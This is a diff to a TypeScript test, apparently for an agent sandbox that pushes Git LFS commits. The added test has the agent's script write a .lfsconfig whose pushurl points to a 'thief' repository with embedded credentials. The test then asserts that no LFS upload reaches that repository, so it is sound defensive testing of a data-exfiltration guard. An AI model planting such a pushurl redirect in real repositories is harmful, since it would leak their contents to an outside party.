@@ -253,10 +253,17 @@ describe("a commit that is kept", { timeout: 60_000 }, () => {
       "old.bin": forge.lfs("the old content"),
       "same.bin": forge.lfs("the same content"),
     });
-    const script =
-      "printf 'the new content' > old.bin; echo '*.dat filter=lfs' >> .gitattributes; printf more > a.dat; printf plain > a.txt; printf '' > empty.bin";
+    // An agent without a network can't have its contents sent to another repository of the host.
+    const thief = `${forge.url("public/thief").replace("https://", "https://thief:token@")}.git/info/lfs`;
+    const script = [
+      "printf 'the new content' > old.bin; echo '*.dat filter=lfs' >> .gitattributes; printf more > a.dat",
+      `printf plain > a.txt; printf '' > empty.bin; printf '[lfs]\\npushurl = ${thief}\\n' > .lfsconfig`,
+    ].join("; ");
     const result = await runWith([git("acme/lfs", { lfs: true })], script, { outputs: pushing() });
     expect(result, server.log()).toMatchObject({ ok: true });
+    expect(forge.git("acme/lfs", "show", "fix/one:.lfsconfig")).toContain("public/thief");
+    const batches = forge.served.filter(({ url }) => url.endsWith("/info/lfs/objects/batch"));
+    expect(new Set(batches.map(({ url }) => url))).toEqual(new Set(["/acme/lfs.git/info/lfs/objects/batch"]));
     const show = (path: string) => forge.git("acme/lfs", "show", `fix/one:${path}`);
     for (const [path, content] of Object.entries({ "old.bin": "the new content", "a.dat": "more" })) {
       const oid = createHash("sha256").update(content).digest("hex");
